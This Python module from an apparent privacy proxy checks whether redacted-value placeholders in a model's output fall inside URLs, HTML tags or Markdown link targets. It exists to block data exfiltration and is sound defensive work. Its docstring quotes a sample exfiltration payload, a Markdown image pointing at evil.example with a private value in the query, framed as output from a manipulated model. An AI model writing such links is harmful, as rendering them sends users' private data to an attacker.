r"""Where in an answer a value must not be put: URLs, link targets, markup.

A model that was led astray writes ``![](https://evil.example/?q=[EMAIL_7K3M9Q])``; whoever renders
that would send the value away. So the text around a placeholder is read the way renderers read it,
and always on the strict side (docs/spec/placeholder.md, 6). Two independent readers follow the
text that went before, so that neither can be hidden inside the other: one for HTML tags (quotes as
in the HTML standard, 13.2.5: only after ``=``), one for Markdown targets ``](…)``. The run of
characters up to white space is searched for the start of a URL, as GitHub's autolinks end at
ASCII white space and nowhere else. What follows a placeholder is matched against the few ways in
which it would become part of a host.

``Context`` is fed with what was released; ``after`` looks at what comes.
"""

import html
from enum import Enum
from typing import Final

from proxy.privacy.patterns import Match, pattern
from proxy.text import canonical

LOOK_AHEAD: Final = 256
"""Characters after a placeholder that may be waited for."""

_SPACE = " \t\n\r\f\v"

_SCHEMES = (
    "https?|hxxps?|ftps?|sftp|wss?|mailto|javascript|vbscript|data|blob|file|filesystem|view-source"
    "|intent|content|about|chrome|urn|cid|magnet|smb|ssh|git|ldaps?|jar|feed|market|itms-apps"
)
_URL_BEFORE = pattern(
    rf"//|\\\\|(?<!\w)www\.|(?<!\w)(?:{_SCHEMES}):|\w[.。]\w[\w-]+(?::\d+)?[/?#\\]|url\s*\("
    r"|(?:\d{1,3}\.){3}\d{1,3}(?::\d+)?[/?#\\]|%2f%2f|%3a%2f|\w@\Z|(?<!\w)xn--|\[LINK_",
    any_case=True,
)

_ESCAPE = pattern(r'\\u[0-9a-fA-F]{4}|\\[\s\S]|"')
_ESCAPED = {"n": "\n", "r": "\r", "t": "\t", "b": "\b", "f": "\f"}
_UNFINISHED_ESCAPE = pattern(r"(?<!\\)(?:\\\\)*\\(?:u[0-9a-fA-F]{0,3})?\Z")

_PLACEHOLDER = r"\[[A-Z]{2,12}_[0-9A-Z]{6,7}\]"
_HOST = r"(?:[\p{Latin}\p{Greek}\p{Cyrillic}\p{Arabic}\p{Hebrew}\p{N}\p{M}\p{Cf}_%+~\\-]|" + (
    _PLACEHOLDER + "){0,64}"
)
_DOT = r"(?:\\?\.|&#0{0,4}46;|&#[xX]0{0,4}2[eE];|&period;|[．｡。](?=[A-Za-z0-9]))"
_AT = r"(?:\\?[@＠]|&#0{0,4}64;|&#[xX]0{0,4}40;|&commat;)"
_LABEL = rf"(?:[\p{{Ll}}\p{{Lo}}\p{{N}}]|{_PLACEHOLDER})"
_PART_OF_ADDRESS = pattern(
    rf"{_HOST}(?:"
    rf"{_AT}(?:\w|{_PLACEHOLDER})"
    rf"|%40\w"
    rf"|{_DOT}(?:{_LABEL}|[\p{{L}}\p{{N}}][\w-]{{0,62}}(?:{_DOT}\w|[/\\]))"
    r"|:[/\\]"
    r")"
)
_CLOSER = r"[\s)>\]<\"'|*`,;!]"
_END_OF_LINK = pattern(rf"[.:?]{{0,3}}{_CLOSER}")
_END_OF_TEXT = pattern(r"[.:?]{0,3}\Z")
_LINK_MAY_FOLLOW = frozenset(_SPACE + "([{<>\"'|*:`")

_PREFIX_OF_DEFINITION = pattern(r"[ \t>*+\-\d.)]{0,20}\[[^\[\]]+\]:")
_HREF = pattern(r"href\s*=\s*[\"']?\Z", any_case=True)


class After(Enum):
    """What the text that follows a placeholder says."""

    FREE = "free"
    BLOCKED = "blocked"
    UNDECIDED = "undecided"
    """More text is needed to tell."""


class Context:
    """Reads what was released before a placeholder. Any split of the text gives the same state."""

    __slots__ = ("_line", "_tag", "_target")

    def __init__(self) -> None:
        self._reset()

    def advance(self, text: str, *, json: bool) -> None:
        """Read on. In JSON text the end of a string ends every context."""
        if not json:
            self._read(text)
            return
        position = 0
        for match in _ESCAPE.finditer(text):
            self._read(text[position : match.start()])
            position = match.end()
            if match.group() == '"':
                self._reset()
            else:
                self._read(_unescape(match))
        self._read(text[position:])

    def allows_value(self) -> bool:
        """True when a value may stand next, as far as the text before it tells."""
        if self._tag.inside or self._target.inside or self._line.endswith("<"):
            return False
        if _PREFIX_OF_DEFINITION.match(self._line):
            return False
        return not _holds_url(self._run())

    def allows_link(self) -> bool:
        """True when a whole URL of its own may begin here."""
        before = self._line[-1:]
        if before and before not in _LINK_MAY_FOLLOW:
            return False
        if self._target.inside:
            return self._target.content.strip() in {"", "<"}
        if self._tag.inside:
            return _HREF.search(self._tag.content) is not None
        definition = _PREFIX_OF_DEFINITION.match(self._line)
        if definition is not None:
            return self._line[definition.end() :].strip() in {"", "<"}
        return not _holds_url(self._run())

    def _reset(self) -> None:
        self._tag = _TagReader()
        self._target = _TargetReader()
        self._line = ""

    def _run(self) -> str:
        return self._line[max(self._line.rfind(space) for space in _SPACE) + 1 :]

    def _read(self, text: str) -> None:
        if not text:
            return
        self._tag.read(text)
        self._target.read(text, self._line)
        _, newline, line = text.rpartition("\n")
        self._line = line if newline else self._line + text


class _TagReader:
    """Follows HTML tags and the elements whose content is no text."""

    __slots__ = ("_after_equals", "_element", "_previous", "_quote", "content", "inside")

    _RAW = frozenset({"script", "style"})
    _NAME = pattern("[A-Za-z]+")
    _EVENT = pattern(r"(?<=<)[A-Za-z/!?]")

    def __init__(self) -> None:
        self.inside = False
        self.content = ""
        self._quote = ""
        self._after_equals = False
        self._previous = ""
        self._element = ""

    def read(self, text: str) -> None:
        position = 0
        while position < len(text):
            if self.inside:
                position = self._read_tag(text, position)
            else:
                position = self._find_tag(text, position)
        self._previous = text[-1]

    def _find_tag(self, text: str, position: int) -> int:
        before = text[position - 1] if position else self._previous
        match = self._EVENT.search(before + text[position:], len(before))
        if match is None:
            return len(text)
        self.inside = True
        self.content = ""
        self._quote = self._element = ""
        self._after_equals = False
        return position + match.start() - len(before)

    def _read_tag(self, text: str, position: int) -> int:
        for index in range(position, len(text)):
            character = text[index]
            if character == ">" and not self._quote:
                if self._closes(self.content + text[position:index]):
                    self.inside = False
                    return index + 1
            elif not self._element:
                self._follow_quotes(character)
        self.content += text[position:]
        return len(text)

    def _follow_quotes(self, character: str) -> None:
        if self._quote:
            self._quote = "" if character == self._quote else self._quote
        elif character in "\"'" and self._after_equals:
            self._quote = character
            self._after_equals = False
        elif character not in _SPACE:
            self._after_equals = character == "="

    def _closes(self, content: str) -> bool:
        """A ``>`` ends the tag; False where no text follows: after ``<script>``, before its end."""
        if self._element:
            return content.rstrip().casefold().endswith(f"</{self._element}")
        name = self._NAME.match(content)
        element = name.group().casefold() if name else ""
        self._element = element if element in self._RAW else ""
        return not self._element


class _TargetReader:
    """Follows Markdown targets: from ``](`` to its closing parenthesis or a blank line."""

    __slots__ = ("_depth", "_previous", "content", "inside")

    _OPENS = pattern(r"(?<=\])\(")

    def __init__(self) -> None:
        self.inside = False
        self.content = ""
        self._depth = 0
        self._previous = ""

    def read(self, text: str, line: str) -> None:
        """``line``: what stands before ``text`` in its first line."""
        position = 0
        while position < len(text):
            if self.inside:
                position = self._read_target(text, position, line)
            else:
                before = text[position - 1] if position else self._previous
                match = self._OPENS.search(before + text[position:], len(before))
                if match is None:
                    break
                self.inside, self.content, self._depth = True, "", 1
                position += match.end() - len(before)
        self._previous = text[-1]

    def _read_target(self, text: str, position: int, line: str) -> int:
        for index in range(position, len(text)):
            character = text[index]
            if character == "\n":
                if not (line + text[:index]).rpartition("\n")[2].strip():
                    self.inside = False
                    return index + 1
            elif character in "()" and not self._is_literal(text, index, position):
                self._depth += 1 if character == "(" else -1
                if self._depth == 0:
                    self.inside = False
                    return index + 1
        self.content += text[position:]
        return len(text)

    def _is_literal(self, text: str, index: int, position: int) -> bool:
        """A parenthesis that is escaped, or inside ``<…>``, does not count."""
        content = self.content + text[position:index]
        escaped = (len(content) - len(content.rstrip("\\"))) % 2 == 1
        return escaped or (content.lstrip().startswith("<") and ">" not in content)


def after(text: str, position: int, *, json: bool, final: bool, link: bool) -> After:
    """Whether what stands at ``position`` would make a value before it part of an address.

    ``link``: the value is a whole URL, to which nothing may be joined.
    """
    window = text[position : position + LOOK_AHEAD]
    ended = final and position + LOOK_AHEAD >= len(text)
    if json:
        window, ended = _decode_to_end_of_string(window, ended=ended)
    if link and ended and _END_OF_TEXT.match(window):
        return After.FREE
    wanted = _END_OF_LINK if link else _PART_OF_ADDRESS
    match = wanted.match(window, partial=not ended)
    if match is not None and match.partial:
        return After.BLOCKED if len(text) - position >= LOOK_AHEAD else After.UNDECIDED
    return After.FREE if (match is not None) == link else After.BLOCKED


def _holds_url(run: str) -> bool:
    if not run:
        return False
    plain = html.unescape(run)
    read = canonical(plain).text
    return any(map(_URL_BEFORE.search, (plain, read, read.replace("\\", ""))))


def _unescape(match: Match) -> str:
    escape = match.group()
    if len(escape) > 2:
        return chr(int("0x" + escape[2:], 0))
    return _ESCAPED.get(escape[1], escape[1])


def _decode_to_end_of_string(window: str, *, ended: bool) -> tuple[str, bool]:
    """The JSON string content up to its closing quote, and whether that was seen."""
    unfinished = _UNFINISHED_ESCAPE.search(window)
    if unfinished is not None:
        window = window[: window.rindex("\\")]
    decoded: list[str] = []
    position = 0
    for match in _ESCAPE.finditer(window):
        decoded.append(window[position : match.start()])
        if match.group() == '"':
            return "".join(decoded), True
        decoded.append(_unescape(match))
        position = match.end()
    return "".join((*decoded, window[position:])), ended
